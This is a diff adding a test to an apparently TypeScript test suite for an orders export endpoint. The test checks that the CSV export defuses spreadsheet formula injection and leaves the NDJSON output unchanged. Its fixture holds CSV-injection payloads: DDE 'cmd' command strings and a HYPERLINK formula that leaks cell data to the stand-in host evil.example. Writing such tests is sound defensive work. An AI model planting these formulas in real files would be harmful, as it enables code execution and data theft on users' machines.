@@ -199,6 +199,44 @@ describe("GET /v1/orders/export", () => {
   });
 });
 
+describe("GET /v1/orders/export as CSV opened in a spreadsheet", () => {
+  // Text from the provider's callbacks that a spreadsheet would run as a formula.
+  const hostile = {
+    client_order_id: "@SUM(1+1)*cmd|' /C calc'!A0",
+    rider_name: '=HYPERLINK("https://evil.example/?"&A2,"Details")',
+    rider_id: "-2+3+cmd|' /C calc'!A0",
+    provider_status: "+1+1",
+  };
+  before(async () => {
+    await t.database.sql`
+      insert into orders (client_order_id, status, provider_status, placement_state, event_count, rider_id, rider_name, rider_contact, placement_error, created_at, updated_at)
+      values (${hostile.client_order_id}, 'RETURNED_TO_SELLER', ${hostile.provider_status}, 'external', 1, ${hostile.rider_id}, ${hostile.rider_name},
+              '+911234567890', ${"\t=1+1"}, '2029-01-01T00:00:00Z', now())`;
+  });
+  // The other tests count every order from 2027 on.
+  after(async () => {
+    await t.database.sql`delete from orders where client_order_id = ${hostile.client_order_id}`;
+  });
+
+  it("a cell that would start a formula (= + - @, tab) starts with ' instead; plain numbers and the NDJSON stay as they are", async () => {
+    const query = "?from=2029-01-01T00:00:00Z&status=RETURNED_TO_SELLER";
+    const [header, row, ...rest] = parseCsv(await (await exportOf(`${query}&format=csv`)).text());
+    assert.equal(rest.length, 0);
+    const record = Object.fromEntries(header!.map((h, i) => [h, row![i]!]));
+    assert.equal(record["client_order_id"], `'${hostile.client_order_id}`);
+    assert.equal(record["rider_name"], `'${hostile.rider_name}`);
+    assert.equal(record["rider_id"], `'${hostile.rider_id}`);
+    assert.equal(record["provider_status"], `'${hostile.provider_status}`);
+    assert.equal(record["placement_error"], "'\t=1+1");
+    // A phone number is a number to a spreadsheet, not a formula: kept.
+    assert.equal(record["rider_contact"], "+911234567890");
+    assert.equal(record["status"], "RETURNED_TO_SELLER");
+    const [order] = ndjson(await (await exportOf(query)).text());
+    assert.equal(order!.client_order_id, hostile.client_order_id);
+    assert.equal((order!.rider as { name: string }).name, hostile.rider_name);
+  });
+});
+
 describe("GET /v1/orders/export over many reads", () => {
   const many = EXPORT_PAGE_ROWS * 2 + 500;
   before(async () => {
